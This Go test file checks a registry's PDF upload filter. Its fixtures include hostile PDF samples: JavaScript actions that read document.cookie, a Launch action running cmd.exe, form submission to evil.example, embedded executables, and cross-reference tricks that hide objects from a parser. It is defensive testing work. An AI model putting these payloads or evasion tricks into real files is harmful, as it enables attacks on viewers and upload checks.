package registry_test

import (
	"bytes"
	"compress/zlib"
	"context"
	"encoding/binary"
	"errors"
	"fmt"
	"image"
	"image/color"
	"image/jpeg"
	"io"
	"math/rand/v2"
	"os"
	"path/filepath"
	"runtime"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/pdfcpu/pdfcpu/pkg/api"
	"github.com/pdfcpu/pdfcpu/pkg/pdfcpu/model"

	"github.com/ipreg/ipreg/internal/auth"
	. "github.com/ipreg/ipreg/internal/registry"
	"github.com/ipreg/ipreg/internal/testbin"
)

// pdfWith is testbin.PDFWith: a one-page PDF with extra catalog and page
// entries and extra objects from 6 on.
var pdfWith = testbin.PDFWith

// objStmPDF returns a PDF 1.5 file whose catalog has the extra entries
// given and whose pages, font and object 6 (obj6) lie in a
// Flate-compressed object stream, indexed by a cross-reference stream, as
// current writers pack them: a byte search sees none of their names.
func objStmPDF(catalog, obj6 string) []byte { return objStmPDFTable(catalog, obj6, true) }

// objStmPDFTable is objStmPDF whose cross-reference stream (object 8)
// lists itself, or, as most writers do, leaves itself out (/Size 8).
func objStmPDFTable(catalog, obj6 string, listSelf bool) []byte {
	content := "BT /F1 18 Tf 72 720 Td (letter) Tj ET"
	packed := map[int]string{
		2: "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
		3: "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>",
		5: "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
		6: obj6,
	}
	var header, body strings.Builder
	for _, n := range []int{2, 3, 5, 6} {
		fmt.Fprintf(&header, "%d %d ", n, body.Len())
		body.WriteString(packed[n] + "\n")
	}
	var z bytes.Buffer
	zw := zlib.NewWriter(&z)
	zw.Write([]byte(header.String() + body.String()))
	zw.Close()

	var b bytes.Buffer
	off := map[int]int{}
	b.WriteString("%PDF-1.7\n")
	obj := func(n int, s string) {
		off[n] = b.Len()
		fmt.Fprintf(&b, "%d 0 obj\n%s\nendobj\n", n, s)
	}
	obj(1, "<< /Type /Catalog /Pages 2 0 R "+catalog+" >>")
	obj(4, fmt.Sprintf("<< /Length %d >>\nstream\n%s\nendstream", len(content), content))
	obj(7, fmt.Sprintf("<< /Type /ObjStm /N 4 /First %d /Filter /FlateDecode /Length %d >>\nstream\n%s\nendstream", header.Len(), z.Len(), z.Bytes()))
	off[8] = b.Len()
	var xref []byte
	entry := func(typ byte, a uint32, c uint16) {
		xref = append(xref, typ)
		xref = binary.BigEndian.AppendUint32(xref, a)
		xref = binary.BigEndian.AppendUint16(xref, c)
	}
	entry(0, 0, 65535)
	entry(1, uint32(off[1]), 0)
	entry(2, 7, 0)
	entry(2, 7, 1)
	entry(1, uint32(off[4]), 0)
	entry(2, 7, 2)
	entry(2, 7, 3)
	entry(1, uint32(off[7]), 0)
	size := 8
	if listSelf {
		entry(1, uint32(off[8]), 0)
		size = 9
	}
	fmt.Fprintf(&b, "8 0 obj\n<< /Type /XRef /Size %d /W [1 4 2] /Root 1 0 R /Length %d >>\nstream\n%s\nendstream\nendobj\n", size, len(xref), xref)
	fmt.Fprintf(&b, "startxref\n%d\n%%%%EOF\n", off[8])
	return b.Bytes()
}

// pdfcpuConf is pdfcpu's default configuration without its configuration
// directory (which it would otherwise create under $HOME).
func pdfcpuConf() *model.Configuration {
	disableConfigDir.Do(api.DisableConfigDir)
	return model.NewDefaultConfiguration()
}

var disableConfigDir sync.Once

// rewritten returns b as pdfcpu writes it: objects packed into compressed
// object streams and a cross-reference stream, as PDF 1.5+ writers do.
func rewritten(t testing.TB, b []byte) []byte {
	t.Helper()
	var out bytes.Buffer
	if err := api.Optimize(bytes.NewReader(b), &out, pdfcpuConf()); err != nil {
		t.Fatal(err)
	}
	return out.Bytes()
}

// encrypted returns b encrypted with AES-256 under the passwords given.
func encrypted(t testing.TB, b []byte, user, owner string) []byte {
	t.Helper()
	conf := pdfcpuConf()
	conf.UserPW, conf.OwnerPW, conf.EncryptUsingAES, conf.EncryptKeyLength = user, owner, true, 256
	var out bytes.Buffer
	if err := api.Encrypt(bytes.NewReader(b), &out, conf); err != nil {
		t.Fatal(err)
	}
	return out.Bytes()
}

// withAttachment returns b with a file attached by pdfcpu, as a PDF
// editor attaches one (the EmbeddedFiles name tree).
func withAttachment(t testing.TB, b []byte) []byte {
	t.Helper()
	f := filepath.Join(t.TempDir(), "invoice.exe")
	if err := os.WriteFile(f, []byte("MZ\x90\x00 a program"), 0o600); err != nil {
		t.Fatal(err)
	}
	var out bytes.Buffer
	if err := api.AddAttachments(bytes.NewReader(b), &out, []string{f}, false, pdfcpuConf()); err != nil {
		t.Fatal(err)
	}
	return out.Bytes()
}

// scannedPDF returns a PDF of pages JPEG "scans" of noise (which does not
// compress), each about perPage bytes, as a scanner or a phone app makes.
func scannedPDF(t testing.TB, pages, perPage int) []byte {
	t.Helper()
	rng := rand.New(rand.NewPCG(1, 2))
	var imgs []io.Reader
	for range pages {
		// Quality 90 noise costs about 0.85 bytes a pixel.
		side := 1
		for side*side*3/4 < perPage {
			side += 16
		}
		img := image.NewGray(image.Rect(0, 0, side, side))
		for i := range img.Pix {
			img.Pix[i] = uint8(rng.Uint32())
		}
		img.Set(0, 0, color.Gray{})
		var b bytes.Buffer
		if err := jpeg.Encode(&b, img, &jpeg.Options{Quality: 90}); err != nil {
			t.Fatal(err)
		}
		imgs = append(imgs, &b)
	}
	var out bytes.Buffer
	if err := api.ImportImages(nil, &out, imgs, nil, pdfcpuConf()); err != nil {
		t.Fatal(err)
	}
	return out.Bytes()
}

const jsAction = "<< /S /JavaScript /JS (app.alert\\(document.cookie\\)) >>"

// objOffset returns where object n's header starts in b.
func objOffset(b []byte, n int) int {
	return bytes.Index(b, []byte("\n"+strconv.Itoa(n)+" 0 obj")) + 1
}

// xrefEntry returns b (as testbin.PDFObjects writes it) with object n's
// cross-reference entry replaced by line (20 bytes without the newline).
func xrefEntry(b []byte, n int, line string) []byte {
	i := bytes.LastIndex(b, []byte("\nxref\n")) + 1
	lines := strings.Split(string(b[i:]), "\n")
	lines[2+n] = line
	return append(append([]byte{}, b[:i]...), strings.Join(lines, "\n")...)
}

// unlisted returns b (as testbin.PDFObjects writes it) with its last
// object left out of the cross-reference table and trailer /Size.
func unlisted(b []byte) []byte {
	i := bytes.LastIndex(b, []byte("\nxref\n")) + 1
	lines := strings.Split(string(b[i:]), "\n")
	var n int
	fmt.Sscanf(lines[1], "0 %d", &n)
	lines[1] = fmt.Sprintf("0 %d", n-1)
	lines = append(lines[:n+1], lines[n+2:]...)
	out := strings.Join(lines, "\n")
	out = strings.Replace(out, fmt.Sprintf("/Size %d", n), fmt.Sprintf("/Size %d", n-1), 1)
	// startxref stays right: the table starts where it did.
	return append(append([]byte{}, b[:i]...), out...)
}

// appendedAfterEOF returns b (as testbin.PDFObjects writes it) with an
// incremental update that rewrites object 5 (the font), appended right
// after "%%EOF" with no newline between, as some editors write it.
func appendedAfterEOF(b []byte) []byte {
	b = bytes.TrimRight(b, "\n")
	prev := bytes.LastIndex(b, []byte("\nxref\n")) + 1
	out := append([]byte{}, b...)
	off := len(out)
	out = append(out, "5 0 obj\n<< /Type /Font /Subtype /Type1 /BaseFont /Courier >>\nendobj\n"...)
	xref := len(out)
	out = append(out, fmt.Sprintf("xref\n5 1\n%010d 00000 n \ntrailer\n<< /Size 6 /Root 1 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n", off, prev, xref)...)
	return out
}

// handPDF writes objects (each a whole "N G obj ... endobj") one after the
// other, then a cross-reference table that points to the first copy of
// each number with generation tableGen[N] (0 when absent), as the tester's
// hand-made files do.
func handPDF(tableGen map[int]int, objects ...string) []byte {
	var b bytes.Buffer
	b.WriteString("%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
	off := map[int]int{}
	size := 1
	for _, o := range objects {
		var n int
		fmt.Sscanf(o, "%d", &n)
		if _, seen := off[n]; !seen {
			off[n] = b.Len()
		}
		size = max(size, n+1)
		b.WriteString(o)
	}
	xref := b.Len()
	fmt.Fprintf(&b, "xref\n0 %d\n0000000000 65535 f \n", size)
	for n := 1; n < size; n++ {
		if o, ok := off[n]; ok {
			fmt.Fprintf(&b, "%010d %05d n \n", o, tableGen[n])
		} else {
			b.WriteString("0000000000 65535 f \n")
		}
	}
	fmt.Fprintf(&b, "trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n", size, xref)
	return b.Bytes()
}

const (
	handCatalog = "1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"
	handPages   = "2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n"
	handPage    = "3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>\nendobj\n"
	handJSCat   = "1 0 obj\n<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >> >>\nendobj\n"
)

// handStream is object n, a stream holding data.
func handStream(n int, data string) string {
	return fmt.Sprintf("%d 0 obj\n<< /Length %d >>\nstream\n%s\nendstream\nendobj\n", n, len(data), data)
}

func TestSniffPDFActiveContent(t *testing.T) {
	plain := testbin.PDF("CNIC front")
	openJS := pdfWith("/OpenAction "+jsAction, "")
	openJS6 := pdfWith("/OpenAction 6 0 R", "", jsAction)
	tests := []struct {
		name    string
		content []byte
		err     string // "" when accepted
	}{
		// Plain PDFs, as printers, office suites, scanners and pdfcpu write
		// them, pass.
		{"plain", plain, ""},
		{"plain rewritten with object streams", rewritten(t, plain), ""},
		{"plain in a compressed object stream", objStmPDF("", "<< /Producer (scanner) >>"), ""},
		{"scan of two pages", scannedPDF(t, 2, 300<<10), ""},
		{"open at a page, as office suites write", pdfWith("/OpenAction [3 0 R /Fit]", ""), ""},
		{"open with a go-to action", pdfWith("/OpenAction << /S /GoTo /D [3 0 R /Fit] >>", ""), ""},
		{"link to a web page", pdfWith("", "/Annots [<< /Type /Annot /Subtype /Link /Rect [72 700 200 720] /A << /S /URI /URI (https://pta.gov.pk/) >> >>]"), ""},
		{"owner password only (opens without one)", encrypted(t, plain, "", "owner-secret"), ""},

		// The examples: JavaScript, launch and embedded files.
		{"JavaScript run on open", openJS, "contains JavaScript"},
		{"JavaScript in the names tree", pdfWith("/Names << /JavaScript 6 0 R >>", "", "<< /Names [(init) 7 0 R] >>", jsAction), "contains JavaScript"},
		{"JavaScript in a link", pdfWith("", "/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A "+jsAction+" >>]"), "contains JavaScript"},
		{"JavaScript as a stream", pdfWith("/OpenAction << /S /JavaScript /JS 6 0 R >>", "", "<< /Length 8 >>\nstream\napp.beep\nendstream"), "contains JavaScript"},
		{"JavaScript with a #-escaped name", pdfWith("/OpenAction << /S /Java#53cript /J#53 (app.beep\\(\\)) >>", ""), "contains JavaScript"},
		{"JavaScript hidden in a compressed object stream", objStmPDF("/OpenAction 6 0 R", jsAction), "contains JavaScript"},
		{"launch action", pdfWith("/OpenAction << /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >>", ""), "starts a program"},
		{"launch in a link", pdfWith("", "/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /Launch /F (a.exe) >> >>]"), "starts a program"},
		{"embedded file, as pdfcpu attaches one", withAttachment(t, plain), "an embedded file"},
		{"embedded file by hand", pdfWith("/Names << /EmbeddedFiles << /Names [(a.exe) 6 0 R] >> >>", "",
			"<< /Type /Filespec /F (a.exe) /EF << /F 7 0 R >> >>", "<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream"), "an embedded file"},
		{"file attachment annotation", pdfWith("", "/Annots [<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS 6 0 R >>]", "<< /Type /Filespec /F (a.exe) >>"), "an embedded file"},
		{"go-to an embedded file", pdfWith("/OpenAction << /S /GoToE /T << /R /C /N (a.pdf) >> >>", ""), "an embedded file"},

		// Neighbours: additional actions, forms that send data, rich media, XFA.
		{"page additional actions", pdfWith("", "/AA << /O << /S /GoTo /D [3 0 R /Fit] >> >>"), "run by themselves"},
		{"document additional actions", pdfWith("/AA << /WC "+jsAction+" >>", ""), "contains"},
		{"submit form", pdfWith("/OpenAction << /S /SubmitForm /F << /FS /URL /F (https://evil.example/) >> >>", ""), "sends or imports data"},
		{"import data", pdfWith("/OpenAction << /S /ImportData /F (data.fdf) >>", ""), "sends or imports data"},
		{"rich media", pdfWith("", "/Annots [<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] >>]"), "rich media"},
		{"rendition", pdfWith("/OpenAction << /S /Rendition /OP 0 >>", ""), "rich media"},
		{"XFA form", pdfWith("/AcroForm << /Fields [] /XFA 6 0 R >>", "", "<< /Length 6 >>\nstream\n<xdp/>\nendstream"), "an XFA form"},
		{"JavaScript in an encrypted PDF", encrypted(t, openJS, "", "owner-secret"), "contains JavaScript"},

		// What cannot be checked is refused, with what to do.
		// A table that misdescribes the file: pdfcpu skips the object, but a
		// viewer that rebuilds the table (pdf.js, MuPDF) finds and runs it.
		{"object at a wrong offset", xrefEntry(openJS6, 6, fmt.Sprintf("%010d 00000 n ", objOffset(openJS6, 6)+5)), "structure cannot be read"},
		{"offset landing on another object", xrefEntry(openJS6, 6, fmt.Sprintf("%010d 00000 n ", objOffset(openJS6, 5))), "structure cannot be read"},
		{"offset past the end of the file", xrefEntry(openJS6, 6, fmt.Sprintf("%010d 00000 n ", len(openJS6)+1000)), "structure cannot be read"},
		{"nesting deeper than the parser reads", pdfWith("/OpenAction 6 0 R", "", "<< /S /JavaScript /JS (app.beep\\(\\)) /D "+strings.Repeat("[", 120)+strings.Repeat("]", 120)+" >>"), "structure cannot be read"},
		{"object the table marks free", xrefEntry(openJS6, 6, "0000000000 00001 f "), "structure cannot be read"},
		{"object the table does not list", unlisted(openJS6), "structure cannot be read"},
		// The second round's examples, as the tester built them: pdf.js
		// rebuilds a table whose generations miss their objects, where the
		// last copy of a number wins and headers inside stream data count.
		{"dupD: catalog twice, the second with JavaScript; object 2 as 2 1 obj listed as generation 0",
			handPDF(nil, handCatalog, strings.Replace(handPages, "2 0 obj", "2 1 obj", 1), strings.Replace(handPage, "/Parent 2 0 R", "/Parent 4 0 R", 1),
				strings.Replace(handPages, "2 0 obj", "4 0 obj", 1), strings.Replace(handJSCat, "/Pages 2 0 R", "/Pages 4 0 R", 1)), "structure cannot be read"},
		{"dupE: catalog twice, the second with JavaScript, the table right",
			handPDF(nil, handCatalog, handPages, handPage, handJSCat), "contains JavaScript"},
		{"genmisB: catalog 1 1 obj, a second catalog and trailer inside a stream",
			handPDF(nil, strings.Replace(handCatalog, "1 0 obj", "1 1 obj", 1), handPages, handPage,
				handStream(4, "\n9 0 obj\n<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >> >>\nendobj\ntrailer\n<< /Size 10 /Root 9 0 R >>")), "structure cannot be read"},
		{"genonly: catalog 1 1 obj listed as generation 0", handPDF(nil, strings.Replace(handCatalog, "1 0 obj", "1 1 obj", 1), handPages, handPage), "structure cannot be read"},
		// Neighbours.
		{"generation listed as 1, object written as 0", handPDF(map[int]int{2: 1}, handCatalog, handPages, handPage), "structure cannot be read"},
		{"generations that agree (1 and 1)", handPDF(map[int]int{2: 1}, handCatalog, strings.Replace(handPages, "2 0 obj", "2 1 obj", 1), handPage), ""},
		{"a duplicate that does not parse", handPDF(nil, handCatalog, handPages, handPage, "1 0 obj\n<< /Type /Catalog /Pages 2 0 R\nendobj\n"), "structure cannot be read"},
		{"a header inside stream data, no trailer", handPDF(nil, handCatalog, handPages, handPage, handStream(4, "7 0 obj << /S /JavaScript /JS (x) >> endobj")), "structure cannot be read"},
		{"a header inside stream data with odd white space", handPDF(nil, handCatalog, handPages, handPage, handStream(4, "x 7\v0\xa0obj\n")), "structure cannot be read"},
		{"stream data with words near obj, no header", handPDF(nil, handCatalog, handPages, handPage, handStream(4, "12 objects, 3 0 objx, a1 0 obj, 1 0obj")), ""},
		{"an incremental update with an unchanged duplicate", handPDF(nil, handCatalog, handPages, handPage, handCatalog), ""},

		// Links to other files and to what is not a web page or e-mail.
		{"go-to another file on a network share", pdfWith("/OpenAction << /S /GoToR /F (\\\\\\\\evil.example\\\\share\\\\a.pdf) /D [0 /Fit] >>", ""), "opens another file"},
		{"go-to another file by path", pdfWith("", "/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /GoToR /F (../../etc/a.pdf) /D [0 /Fit] >> >>]"), "opens another file"},
		{"javascript: link", pdfWith("", "/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (javascript:app.alert\\(1\\)) >> >>]"), "not to a web page"},
		{"file: link", pdfWith("/OpenAction << /S /URI /URI (file:///C:/Windows/System32/calc.exe) >>", ""), "not to a web page"},
		{"link to a share without a scheme", pdfWith("/OpenAction << /S /URI /URI (\\\\\\\\evil.example\\\\share) >>", ""), "not to a web page"},
		{"link by reference to javascript:", pdfWith("/OpenAction << /S /URI /URI 6 0 R >>", "", "(JavaScript:app.beep\\(\\))"), "not to a web page"},
		{"mail link", pdfWith("", "/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (mailto:info@pta.gov.pk) >> >>]"), ""},
		{"link to a web page given by reference", pdfWith("/OpenAction << /S /URI /URI 6 0 R >>", "", "(HTTPS://www.pta.gov.pk/en)"), ""},

		// Action types and subtypes written otherwise than as a name.
		{"action type by reference", pdfWith("/OpenAction << /S 6 0 R /F (cmd.exe) >>", "", "/Launch"), "starts a program"},
		{"action type as a string", pdfWith("/OpenAction << /S (Launch) /F (cmd.exe) >>", ""), "starts a program"},
		{"action type as a hexadecimal string", pdfWith("/OpenAction << /S <4C61756E6368> /F (cmd.exe) >>", ""), "starts a program"},
		{"subtype by reference", pdfWith("", "/Annots [<< /Type /Annot /Subtype 6 0 R /Rect [0 0 9 9] /FS 7 0 R >>]", "/FileAttachment", "<< /Type /Filespec /F (a.exe) >>"), "an embedded file"},
		{"subtype as a string", pdfWith("", "/Annots [<< /Type /Annot /Subtype (RichMedia) /Rect [0 0 9 9] >>]"), "rich media"},
		{"text that looks like an object header inside a string", pdfWith("/Lang (en 9 0 obj)", "", "<< /Producer (7 0 obj) >>"), ""},
		// What real writers do, which the table check must let through.
		{"a null object (pdfcpu holds it as no object)", pdfWith("", "", "null", "<< /Producer (x) >>"), ""},
		{"a cross-reference stream that leaves itself out of its table", objStmPDFTable("", "<< /Producer (scanner) >>", false), ""},
		{"an incremental update starting right after %%EOF", appendedAfterEOF(testbin.PDF("letter")), ""},
		{"a link to www. without a scheme", pdfWith("", "/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (www.pta.gov.pk/en) >> >>]"), ""},
		{"a link ending in a NUL, as C writers leave it", pdfWith("", "/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (https://pta.gov.pk/\\000) >> >>]"), ""},
		{"a link to a path without a scheme", pdfWith("", "/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (setup.exe) >> >>]"), "not to a web page"},
		{"an unlisted object that calls itself a cross-reference stream only when escaped", unlisted(pdfWith("/OpenAction 6 0 R", "", "<< /Type /X#52ef /S /JavaScript /JS (x) >>")), "structure cannot be read"},

		{"user password", encrypted(t, plain, "open-secret", "owner-secret"), "protected by a password"},
		{"not parseable", []byte("%PDF-1.4\nthis is not a PDF body\ntrailer << /Root 9 0 R >>\n%%EOF\n"), "structure cannot be read"},
		{"truncated in the middle", append(append([]byte{}, plain[:len(plain)/2]...), "\n%%EOF\n"...), "structure cannot be read"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if strings.Contains(tt.name, "compressed") && (bytes.Contains(tt.content, []byte("JavaScript")) || bytes.Contains(tt.content, []byte("/JS"))) {
				t.Fatal("the object-stream case shows its names to a byte search; it tests nothing the parser adds")
			}
			got, err := SniffDocument(t.Context(), tt.content)
			if tt.err == "" {
				if err != nil || got != "application/pdf" {
					t.Fatalf("= %q, %v; want a plain PDF accepted", got, err)
				}
				return
			}
			if err == nil || ErrorCode(err) != EINVALID || !strings.Contains(err.Error(), tt.err) ||
				!strings.Contains(err.Error(), "File > Print > Save as PDF") {
				t.Fatalf("= %q, %v; want an invalid error mentioning %q and how to make a plain PDF", got, err, tt.err)
			}
		})
	}
}

// A PDF whose parsing outlasts its budget is refused, whatever it holds:
// pdfcpu spends time growing with the square of some structures' size
// (200,000 one-letter strings in an array take about 2 s), and an upload
// must not hold a core for minutes. The budget is spent here at once, so
// the test does not depend on the machine's speed. If the request ends
// first, its error is returned, not a refusal.
func TestInspectPDFBudget(t *testing.T) {
	slow := pdfWith("/X ["+strings.Repeat("(a)", 20_000)+"]", "")
	if err := InspectPDF(t.Context(), slow, time.Minute); err != nil {
		t.Fatalf("with time enough: %v", err)
	}
	err := InspectPDF(t.Context(), slow, 0)
	if ErrorCode(err) != EINVALID || !strings.Contains(err.Error(), "takes too long to read") || !strings.Contains(err.Error(), "Save as PDF") {
		t.Fatalf("out of time: %v", err)
	}
	gone, cancel := context.WithCancel(t.Context())
	cancel()
	if err := InspectPDF(gone, slow, time.Minute); !errors.Is(err, context.Canceled) {
		t.Fatalf("request ended: %v", err)
	}
}

// A parse that ran out of its budget without having had the core for
// half of it was starved by other work, not slowed by the PDF: the upload
// is told to come back (EUNAVAILABLE with Retry-After), not that its file
// is faulty (tester t13: a plain 5 MiB PDF, refused under a flood of
// uploads). The thread's clock is stood still here for "starved"; with
// the real one, the budget spent at once is the parse's own (above).
func TestInspectPDFBudgetStarved(t *testing.T) {
	slow := pdfWith("/X ["+strings.Repeat("(a)", 20_000)+"]", "")
	SetThreadCPU(t, func() (time.Duration, bool) { return time.Second, true })
	err := InspectPDF(t.Context(), slow, 2*time.Microsecond)
	var e *Error
	if ErrorCode(err) != EUNAVAILABLE || !errors.As(err, &e) || e.RetryAfter <= 0 || !strings.Contains(err.Error(), "try again") {
		t.Fatalf("starved of the core: %v, want EUNAVAILABLE with Retry-After", err)
	}
	// A clock that cannot be read refuses, as before.
	SetThreadCPU(t, func() (time.Duration, bool) { return 0, false })
	if err := InspectPDF(t.Context(), slow, 2*time.Microsecond); ErrorCode(err) != EINVALID {
		t.Fatalf("without a thread clock: %v, want EINVALID", err)
	}
	// A clock that moved by the budget between the parse's start and its
	// end: the PDF had the core, and is refused.
	var n time.Duration
	SetThreadCPU(t, func() (time.Duration, bool) { n += time.Millisecond; return n, true })
	if err := InspectPDF(t.Context(), slow, 2*time.Microsecond); ErrorCode(err) != EINVALID || !strings.Contains(err.Error(), "takes too long to read") {
		t.Fatalf("the core had: %v, want EINVALID", err)
	}
}

// TestThreadCPU: the clock counts the calling thread's CPU time, where
// the system has one (Linux).
func TestThreadCPU(t *testing.T) {
	runtime.LockOSThread()
	defer runtime.UnlockOSThread()
	start, ok := OSThreadCPU()
	if !ok {
		if runtime.GOOS == "linux" {
			t.Fatal("no thread CPU clock on Linux")
		}
		t.Skip("no thread CPU clock on " + runtime.GOOS + ": PDFs out of time are refused as before")
	}
	deadline := time.Now().Add(10 * time.Second)
	x := 0
	for time.Now().Before(deadline) {
		for i := range 1_000_000 {
			x += i
		}
		if now, _ := OSThreadCPU(); now-start >= 5*time.Millisecond {
			return
		}
	}
	t.Fatalf("the thread's clock did not count 5 ms of CPU in 10 s of spinning (%d)", x)
}

// TestPDFGate: PDF checks queue for a core; when every core stays busy and
// the queue is full, an upload is told to come back (EUNAVAILABLE with
// Retry-After), and the check is never skipped.
func TestPDFGate(t *testing.T) {
	plain := testbin.PDF("CNIC front")
	js := pdfWith("/OpenAction << /S /JavaScript /JS (app.alert(1)) >>", "")
	hold := func(g *auth.Gate) (release func()) {
		held, done := make(chan struct{}), make(chan struct{})
		go g.Do(context.Background(), func() { close(held); <-done })
		<-held
		return func() { close(done) }
	}

	full := auth.NewGate(1, 0, time.Millisecond)
	SetPDFGate(t, full)
	if _, err := SniffDocument(t.Context(), plain); err != nil {
		t.Fatalf("a free core: %v", err)
	}
	release := hold(full)
	_, err := SniffDocument(t.Context(), plain)
	var e *Error
	if ErrorCode(err) != EUNAVAILABLE || !errors.As(err, &e) || e.RetryAfter <= 0 {
		t.Errorf("every core busy, queue full: %v; want EUNAVAILABLE with a Retry-After", err)
	}
	release()

	// A queued check waits for the core and still finds the active content.
	queue := auth.NewGate(1, 1, time.Minute)
	SetPDFGate(t, queue)
	release = hold(queue)
	got := make(chan error, 1)
	go func() { _, err := SniffDocument(t.Context(), js); got <- err }()
	release()
	if err := <-got; ErrorCode(err) != EINVALID {
		t.Errorf("JavaScript after waiting for a core: %v; want EINVALID", err)
	}
}

// textPDF returns a PDF of pages pages, each with its own content stream
// of about perPage bytes of text operators, as an office suite writes a
// long letter: many objects, the parser's harder case.
func textPDF(pages, perPage int) []byte {
	line := "BT /F1 11 Tf 72 700 Td (The undersigned certifies that the applicant works for us as a developer.) Tj ET\n"
	content := strings.Repeat(line, max(1, perPage/len(line)))
	var objs []string
	kids := make([]string, pages)
	for i := range pages {
		kids[i] = fmt.Sprintf("%d 0 R", 4+2*i)
	}
	objs = append(objs, "<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids ["+strings.Join(kids, " ")+fmt.Sprintf("] /Count %d >>", pages),
		"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>")
	for i := range pages {
		objs = append(objs, fmt.Sprintf("<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents %d 0 R /Resources << /Font << /F1 3 0 R >> >> >>", 5+2*i),
			fmt.Sprintf("<< /Length %d >>\nstream\n%s\nendstream", len(content), content))
	}
	return testbin.PDFObjects(objs)
}

// BenchmarkSniffPDF measures the check on typical uploads of 1 to 5 MiB:
// scans (a few large JPEG pages), and a long text document (many objects,
// the parser's harder case). BENCHMARKS.md has the figures.
func BenchmarkSniffPDF(b *testing.B) {
	for _, c := range []struct {
		name string
		pdf  []byte
	}{
		{"scan-1page", scannedPDF(b, 1, 1<<20)},
		{"scan-3pages", scannedPDF(b, 3, 1<<20)},
		{"scan-5pages", scannedPDF(b, 5, 1<<20)},
		{"text-2000pages", textPDF(2000, 2500)},
		{"text-2000pages-objstm", rewritten(b, textPDF(2000, 2500))},
	} {
		b.Run(c.name, func(b *testing.B) {
			b.SetBytes(int64(len(c.pdf)))
			b.ReportAllocs()
			for b.Loop() {
				if _, err := SniffDocument(b.Context(), c.pdf); err != nil {
					b.Fatal(err)
				}
			}
			b.ReportMetric(float64(len(c.pdf))/(1<<20), "MiB/file")
		})
	}
}
